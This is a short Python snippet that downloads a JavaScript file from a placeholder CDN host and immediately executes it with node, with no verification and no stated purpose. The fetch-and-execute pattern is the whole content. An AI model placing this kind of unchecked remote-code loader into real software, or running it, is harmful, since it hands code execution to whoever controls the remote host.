import subprocess
import urllib.request

js = urllib.request.urlopen("https://cdn.example.com/agent.js").read()
subprocess.Popen(["node", "-e", js.decode()])
